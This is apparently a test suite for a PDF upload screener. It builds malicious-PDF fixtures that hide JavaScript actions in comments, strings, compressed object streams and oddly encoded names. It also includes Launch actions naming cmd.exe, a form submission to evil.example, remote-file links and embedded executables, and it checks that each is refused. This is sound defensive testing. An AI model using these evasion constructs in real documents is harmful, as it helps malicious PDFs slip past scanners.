import { once } from 'node:events'
import { deflateSync } from 'node:zlib'
import PDFDocument from 'pdfkit'
import { expect, test } from 'vitest'
import { judgePdf } from './judge-pdf.ts'
import { flate, pdf, pdfOf } from '../../../testing/hostile/pdf-of.ts'

const LOCKED = 'This PDF asks for a password. Save it without one, or send a photo.'
const refused = /^(This PDF contains|The document is damaged)/
const script = '<</S/JavaScript/JS(app.alert(1))>>'
const opens = `/OpenAction${script}`
const list = (dictionary: string, bytes: Buffer | string): string =>
  `<</Type/ObjStm/N 1/First 4${dictionary}>>stream\n${Buffer.from(bytes).toString('latin1')}\nendstream`
const listed = `9 0 ${script}`
const hex = (bytes: Buffer): string => `${bytes.toString('hex')}>`

test.each([
  ['behind the word stream in a comment', pdfOf(`<<%stream\n${opens}>>`)],
  ['behind the word stream in a text', pdfOf(`<</X(stream)${opens}>>`)],
  ['behind a dictionary and a stream in a comment', pdfOf(`<</A 1%>>stream\n${opens}>>`)],
  ['behind the same in a text', pdfOf(`<</X(>>stream)${opens}>>`)],
  ['behind the same in a text of hexadecimals', pdfOf(`<</X<>>stream>${opens}>>`)],
  ['in an object in a comment', pdfOf(`<<>>%7 0 obj <<${opens}>>\n`)],
  ['in an object in a text', pdfOf(`<</X(7 0 obj <<${opens}>>)>>`)],
  ['in an object in the bytes of a stream', pdfOf(`<</Length 99>>stream\n7 0 obj <<${opens}>> endobj\nendstream`)],
  ['in an object across the end of a stream', pdfOf(`<</Length 99>>stream\n7 0 obj<</A(\nendstream % )${opens}>>\n`)],
  ['in an object whose words a comment parts', pdfOf(`<<>>stream\n7 0 %\nobj <<${opens}>>\nendstream`)],
  ['in a trailer in the bytes of a stream', pdfOf(`<<>>stream\ntrailer <</Root<<${opens}>>>>\nendstream`)],
  ['in a text that never ends', pdfOf('<</X(>>', `<<${opens}>>`)],
  ['whose name is spelled otherwise', pdfOf('<</S/#4aav#61Script>>')],
  ['in a list in hexadecimals', pdfOf(list('/Filter/ASCIIHexDecode', hex(Buffer.from(listed))))],
  ['in a list packed twice', pdfOf(list('/Filter[/ASCIIHexDecode/FlateDecode]', hex(deflateSync(listed))))],
  ['in a list with a predictor', pdfOf(list('/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 8>>', deflateSync('x')))],
  ['in a list whose filter stands elsewhere', pdfOf(list('/Filter 7 0 R', hex(Buffer.from(listed))))],
  ['in a list with two filters', pdfOf(list('/Filter null/Filter/ASCIIHexDecode', hex(Buffer.from(listed))))],
  ['in a list with a short name for its filter', pdfOf(list('/F/AHx', hex(Buffer.from(listed))))],
  ['in a list that does not say so', pdfOf(flate('/N 1/First 4', listed))],
  ['in a list behind an end of its bytes', pdfOf(list('', `9 0 (\nendstream)${script}`))],
  [
    'in a list in a dictionary that goes on behind its end',
    pdfOf(`<</N 1/First 4 endobj/Length 9>>stream\n${listed}\nendstream`),
  ],
  ['in a list in a dictionary that a comment interrupts', pdfOf(`<</N 1%>>stream\n/First 4>>stream\n${listed}\nendstream`)],
  ['in a list that is not where it says', pdfOf(`<</X(7 0 obj<</N 1/First 4/Y)>>>>stream\n${listed}\nendstream`)],
])('a script %s is refused', async (_where, bytes) => {
  expect(await judgePdf(bytes)).toMatch(refused)
})

test.each([
  ['a form of XML', '<</AcroForm<</XFA[(template)5 0 R]/Fields[]>>>>'],
  ['another machine', '<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)/D[0/Fit]>>'],
  ['a form that sends itself', '<</OpenAction<</S/SubmitForm/F(https://evil.example)>>>>'],
  ['a film', '<</Subtype/Movie/Movie<</F(a.avi)>>>>'],
  ['a sound', '<</S/Sound/Sound 5 0 R>>'],
  ['a rendition', '<</S/Rendition/OP 0>>'],
  ['a script of a model in three dimensions', '<</Type/3D/OnInstantiate 5 0 R>>'],
  ['an action whose kind stands elsewhere', '<</S 7 0 R/F(cmd.exe)>>endobj 7 0 obj /Launch '],
])('%s is refused', async (_what, object) => {
  expect(await judgePdf(pdfOf(object))).toMatch(refused)
})

test('an embedded program next to an invoice’s XML is refused, whatever its name', async () => {
  const xml = flate('/Type/EmbeddedFile', '<?xml version="1.0"?><a/>')
  const program = flate('', 'MZ this program cannot be run')
  const files = '<</Names<</EmbeddedFiles<</Names[(a)5 0 R(b)6 0 R]>>>>>>'
  const spec = (number: number): string => `<</Type/Filespec/EF<</F ${number} 0 R>>>>`
  expect(await judgePdf(pdfOf(xml, program, files, spec(2), spec(3)))).toMatch(refused)
  expect(await judgePdf(pdfOf(xml, xml, files, spec(2), spec(3)))).toBeUndefined()
})

const uri = '<</S/URI/URI(https://evil.example/sign-in)>>'
const here = '/S/GoTo/D[3 0 R/Fit]'
test.each([
  ['as the document opens', [`<</OpenAction${uri}>>`]],
  ['in an object of its own', ['<</OpenAction 3 0 R>>', uri]],
  ['behind a place in the document', [`<</OpenAction<<${here}/Next${uri}>>>>`]],
  ['behind several', ['<</OpenAction 3 0 R>>', `<<${here}/Next[4 0 R<<${here}>>]>>`, `<<${here}/Next 5 0 R>>`, uri]],
  ['as its page opens', [`<</Type/Page/AA<</O ${uri}>>>>`]],
  ['as the pointer enters', [`<</Subtype/Widget/AA<</E 3 0 R>>>>`, uri]],
  ['out of a list of triggers', ['<</Type/Page/AA 3 0 R>>', '<</O 4 0 R>>', uri]],
  ['in a packed list', [flate('/Type/ObjStm/N 2/First 8', `8 0 9 23 <</OpenAction 9 0 R>> ${uri}`)]],
  ['whose kind is said twice', ['<</OpenAction<</S/GoTo/S/URI/URI(https://evil.example)>>>>']],
  ['whose action is said twice', [`<</OpenAction[3 0 R/Fit]/OpenAction${uri}>>`]],
  ['whose kind stands elsewhere', ['<</OpenAction<</S 3 0 R/URI(https://evil.example)>>>>', '/URI ']],
  ['in a thread of another file', ['<</OpenAction<</S/Thread/F(\\\\\\\\evil.example\\\\a.pdf)/D 0>>>>']],
])('a PDF that goes elsewhere by itself %s is refused', async (_when, objects) => {
  expect(await judgePdf(pdfOf(...objects))).toBe(
    'This PDF opens a page of the web by itself. Please print it to a new PDF and send that.',
  )
})

const program = flate('', 'MZ this program cannot be run')
const attached = (files: string): string => `<</Subtype/FileAttachment/FS<</Type/Filespec/F(a.exe)/EF${files}>>>>`
test.each([
  ['whose list of files is said twice', [program, attached('<</F 2 0 R>>/EF<</F 2 0 R>>')]],
  ['whose file is said twice', [program, attached('<</F 2 0 R/F 2 0 R>>')]],
  ['whose file is behind another object', [program, attached('<</F 4 0 R>>'), ' 2 0 R ']],
  ['whose file says its number otherwise', [`<<>>endobj 2 0 %\nobj${program}`, attached('<</F 2 0 R>>')]],
])('a program in a PDF %s is refused', async (_how, objects) => {
  expect(await judgePdf(pdfOf(...objects))).toMatch(/^This PDF contains programs/)
})

const pages = pdfOf('<</Type/Pages/Kids[3 0 R]/Count 1>>', '<</Type/Page/Parent 2 0 R>>').toString('latin1')
const table = flate('/Type/XRef/W[1 2 1]/DecodeParms<</Columns 4/Predictor 12>>/Root 7 0 R', 'x')
const tail = 'startxref\n0\n%%EOF\n'
test.each([
  [
    'for the web (linearized, packed)',
    `%PDF-1.6\n5 0 obj<</Linearized 1/L 900/H[400 100]/O 7/E 700/N 1/T 800>>endobj\n6 0 obj${table}endobj\n${tail}` +
      `7 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n1 0 obj${flate('/Type/ObjStm/N 1/First 4', '2 0 <</Type/Pages/Kids[]>>')}endobj\n${tail}`,
  ],
  ['of version 2.0', pages.replace('%PDF-1.7', '%PDF-2.0')],
  [
    'changed by a program that adds',
    `${pages}3 0 obj<</Type/Page/Rotate 90>>endobj\nxref\n3 1\n0000000000 00000 n \ntrailer<</Root 1 0 R/Prev 9>>\n${tail}`,
  ],
  [
    'signed',
    `${pages}8 0 obj<</Type/Sig/Filter/Adobe.PPKLite/ByteRange[0 9 16009 9]/Contents<${'00'.repeat(8_000)}>>>endobj\n` +
      `9 0 obj<</AcroForm<</SigFlags 3/Fields[8 0 R]>>/Perms<</DocMDP 8 0 R>>>>endobj\ntrailer<</Root 1 0 R>>\n${tail}`,
  ],
  ['with lines that end as on old Macintoshes', pages.replaceAll('\n', '\r')],
  ['with numbers of its pages', pdfOf('<</PageLabels<</Nums[0<</S/r>>2<</S/D/St 1>>]>>>>').toString('latin1')],
  ['that opens at a place', pdfOf(`<</OpenAction<<${here}>>>>`, `<</Type/Page/Annots[<</A${uri}>>]>>`).toString('latin1')],
  [
    'that opens at a page full of links',
    pdfOf('<</OpenAction 3 0 R>>', '[4 0 R/Fit]', `<</Annots[<</A${uri}>>]>>`).toString('latin1'),
  ],
  ['that prints itself', pdfOf('<</OpenAction<</Type/Action/S/Named/N/Print>>>>').toString('latin1')],
  ['with a button that leads to the shop', pdfOf(`<</Subtype/Widget/AA<</U ${uri}>>>>`).toString('latin1')],
  ['with a button that empties its form', pdfOf('<</Subtype/Widget/A<</S/ResetForm>>>>').toString('latin1')],
  ['with layers', pdfOf('<</OCProperties<</OCGs[3 0 R]>>/A<</S/SetOCGState/State[/ON 3 0 R]>>>>').toString('latin1')],
  ['with chapters', pdfOf(`<</Title(One)/Next 3 0 R/A${uri}>>`, `<</Title(Two)/Prev 2 0 R/A${uri}>>`).toString('latin1')],
])('a PDF %s is taken', async (_what, text) => {
  expect(await judgePdf(Buffer.from(text, 'latin1'))).toBeUndefined()
})

test('actions that follow each other in circles, and a million of them, are read once', async () => {
  expect(await judgePdf(pdfOf('<</OpenAction 3 0 R>>', `<<${here}/Next 3 0 R>>`))).toBeUndefined()
  const many = `<<${`/A<<${here}/Next[${'9 0 R '.repeat(10)}]>>`.repeat(15_000)}>>`
  expect(await judgePdf(pdfOf('<</OpenAction 3 0 R>>', many))).toBeUndefined()
})

test.each([
  ['a link', '<</A<</S/URI/URI(https://shop.example/JS)>>>>'],
  ['words about scripts', '<</Title(how to use /JavaScript and /Launch)/Note(3 0 obj of /JS )>>%/JS \n'],
  ['names that begin or end like an action', '<</JavaScripts/MyJS/Launcher/SoundOff>>'],
  ['an unfiltered list', list('', '9 0 <</Type/Page>>')],
  ['a list with parameters of no meaning', list('/Filter[/FlateDecode]/DecodeParms[null]', deflateSync('9 0 <<>>'))],
  ['a table of places with a predictor', flate('/Type/XRef/W[1 2 1]/DecodeParms<</Predictor 12/Columns 4>>', 'x')],
  ['letters that no text closes', '<</Title(Smile :( )>>'],
  ['a stream without an end', '<<>>stream\nBT ET\n'],
  ['a profile of colours', flate('/N 3/Alternate/DeviceRGB', 'x')],
])('%s is taken', async (_what, object) => {
  expect(await judgePdf(pdfOf(object, '<</Type/Page>>'))).toBeUndefined()
})

const page = Buffer.from(`<!DOCTYPE html><script>var obj = '/JS'; // ${'a portal '.repeat(20_000)}</script>`)
test.each([
  ['zero bytes', Buffer.alloc(300 * 1024)],
  ['a page', page],
  ['blank lines', Buffer.from('\r\n'.repeat(5_000))],
])('a whole PDF with %s behind its end is taken', async (_what, behind) => {
  expect(await judgePdf(Buffer.concat([pdf(), behind]))).toBeUndefined()
})

test('the first part of a longer PDF is refused, and so is a script behind the end', async () => {
  const longer = Buffer.concat([pdf(), Buffer.from('7 0 obj<</Length 90000>>stream\n'), Buffer.alloc(50_000, 'x')])
  expect(await judgePdf(longer)).toMatch(/^The document is damaged/)
  expect(await judgePdf(Buffer.concat([pdf(), Buffer.from(`7 0%\nobj<<${opens}>>`)]))).toMatch(refused)
})

const written = async (options: PDFKit.PDFDocumentOptions, attached?: Buffer): Promise<Buffer> => {
  const document = new PDFDocument({ size: 'A4', ...options })
  const pieces: Buffer[] = []
  document.on('data', (piece: Buffer) => pieces.push(piece))
  if (attached) document.file(attached, { name: 'invoice.xml' })
  document.text('Invoice 5, (paid)').end()
  await once(document, 'end')
  return Buffer.concat(pieces)
}
const versions = ['1.3', '1.4', '1.6', '1.7', '1.7ext3'] as const

test.each(versions)(
  'a PDF of version %s that asks for a password is refused; one that only its owner locked is taken',
  async (pdfVersion) => {
    expect(await judgePdf(await written({ pdfVersion, userPassword: 'secret', ownerPassword: 'mine' }))).toBe(LOCKED)
    expect(await judgePdf(await written({ pdfVersion, ownerPassword: 'mine' }))).toBeUndefined()
  },
)

test.each([{}, { ownerPassword: 'mine' }])('a written PDF keeps the XML of an invoice, and no other file, %j', async (lock) => {
  expect(await judgePdf(await written(lock, Buffer.from('<?xml version="1.0"?><a/>')))).toBeUndefined()
  expect(await judgePdf(await written(lock, Buffer.from('MZ this program cannot be run')))).toMatch(
    /^This PDF contains programs/,
  )
})

/** Locks of the newest kind (AES-256, revision 6), made by another program: with the password `secret`, and without one. */
const newest = {
  secret:
    '/U<4f921d94fe5cfce9a37831f81f2c9182a39007ea2843147135630586df9da83258d06ef80ad3cbde495a0d39f8533123>/UE<82eb61faa275d400c4721f8a44aacb4278d72301de839b9540e2b97182589981>',
  none: '/U<e20a7a19a1fa492077581d9c882c71c1f11136a50229e2874df065c3f3f96e114bb86248862714113e21539cb4927476>/UE<57e04ef9d492104f2e9f8b4561a69babdb7ae9f0590302b94048456d7fdc9387>',
}
const lockedBy = (lock: string): Buffer =>
  pdfOf(`<</V 5/R 6/Filter/Standard/O<00>${lock}/CF<</A<</CFM/AESV3>>>>/StmF/A>>`, '<</Encrypt 2 0 R/Type/XRef>>')

test('the newest lock is refused with a password, and taken without one', async () => {
  expect(await judgePdf(lockedBy(newest.secret))).toBe(LOCKED)
  expect(await judgePdf(lockedBy(newest.none))).toBeUndefined()
})

test('a script in a locked list is refused', async () => {
  const whole = (await written({ pdfVersion: '1.4', ownerPassword: 'mine' })).toString('latin1')
  const withList = whole.replace(/xref\n0 /, `90 0 obj${flate('/N 1/First 4', listed)}endobj\nxref\n0 `)
  // Not locked as the others are: no reader makes sense of it.
  expect(await judgePdf(Buffer.from(withList, 'latin1'))).toMatch(refused)
})

test('a PDF that is locked in a way of its own is refused', async () => {
  expect(await judgePdf(pdfOf('<</Encrypt<</Filter/Adobe.PubSec/V 4>>>>'))).toBe(LOCKED)
})
